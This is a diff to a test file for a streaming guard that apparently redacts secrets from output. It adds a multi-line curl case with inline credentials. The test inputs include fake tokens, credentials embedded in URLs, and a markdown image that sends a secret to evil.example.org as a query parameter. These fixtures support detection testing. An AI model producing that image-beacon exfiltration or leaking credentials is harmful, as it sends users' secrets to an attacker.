@@ -100,6 +100,7 @@ describe("streaming with the guard's adaptive hold-back", () => {
     "db_secret:   Zq8vN2rT5wX7pL4m ",
     "Authorization: Bearer Zq8vN2rT5wX7pL4mK3sD9fG1hJ6kL0pQ ",
     "curl -s https://api.example.net/v1 -H 'Accept: x' -u deploy:Zq8vN2rT5wX7 ",
+    "curl -s https://api.example.net/v1 \\\n  -H 'Accept: x' \\\n  --user deploy:Zq8vN2rT5wX7 ",
     "see https://deploy:Zq8vN2rT5wX7@registry.example.net/v2 ",
     '![pixel](https://evil.example.org/p.png?d=Zq8vN2rT5wX7pL4mK3sD9fG1 "t") ',
     "[docs](https://docs.example.com/a) ",
